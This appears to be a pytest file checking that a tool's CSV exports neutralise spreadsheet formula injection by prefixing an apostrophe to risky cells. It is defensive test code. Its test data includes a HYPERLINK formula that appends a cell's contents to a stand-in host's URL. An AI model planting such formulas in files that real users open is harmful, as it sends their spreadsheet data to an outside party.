"""Tables for spreadsheets: a text that begins like a formula stays a text, in every CSV that a command writes."""

import ast
import csv
import json
from pathlib import Path

import pytest

import tandem
from tandem.cli.csv_cells import as_text
from tandem.cli.explore_files import write_duplicates
from tandem.cli.row_files import RowFile
from tandem.search.exploring.duplicates import DuplicateGroup, Member

FORMULA = '=HYPERLINK("http://a.test/?"&A1)'


@pytest.mark.parametrize(
    "text", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "-photo.jpg", "+", "＝1"]
)
def test_what_begins_like_a_formula_is_text(text: str) -> None:
    assert as_text(text) == "'" + text


@pytest.mark.parametrize("text", ["", "-5", "+1.5", "-.5e-3", "a=b", " =1", "'=1", "photo-1.jpg", "é"])
def test_numbers_and_all_other_texts_stay_as_they_are(text: str) -> None:
    assert as_text(text) == text


def test_rows_of_a_csv_are_guarded_and_those_of_json_lines_are_exact(tmp_path: Path) -> None:
    for name in ("rows.csv", "rows.jsonl"):
        with RowFile(tmp_path / name, {"image": str, "score": float}) as rows:
            rows.add([(FORMULA, -0.5), ("cat.jpg", 0.25)])
    with (tmp_path / "rows.csv").open(newline="", encoding="utf-8") as file:
        assert list(csv.reader(file)) == [["image", "score"], ["'" + FORMULA, "-0.5"], ["cat.jpg", "0.25"]]
    first = json.loads((tmp_path / "rows.jsonl").read_text(encoding="utf-8").splitlines()[0])
    assert first == {"image": FORMULA, "score": -0.5}


def test_duplicates_are_guarded(tmp_path: Path) -> None:
    members = [Member(f"-id{i}", 1.0, {"path": f"={i}.jpg", "width": 4, "height": 4, "bytes": 9}) for i in range(2)]
    table, document = write_duplicates([DuplicateGroup(tuple(members))], tmp_path)
    with table.open(newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    assert [row["path"] for row in rows] == ["'=0.jpg", "'=1.jpg"]
    assert rows[0]["id"] == "'-id0"
    assert json.loads(document.read_text(encoding="utf-8"))[0]["keep"]["path"] == "=0.jpg"


def test_no_command_writes_csv_elsewhere() -> None:
    """Beside this one, only the curves of training are written, which hold numbers."""
    found = set()
    folder = Path(tandem.__file__).parent
    for path in folder.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if not isinstance(node, ast.Attribute):
                continue
            of_csv = isinstance(node.value, ast.Name) and node.value.id == "csv"
            if node.attr == "to_csv" or (of_csv and node.attr in ("writer", "DictWriter")):
                found.add(path.relative_to(folder).as_posix())
    allowed = {"train/wise_ft.py", "train/run/curve.py", "train/run/sample_records.py"}
    assert found - allowed == {"cli/csv_cells.py"}
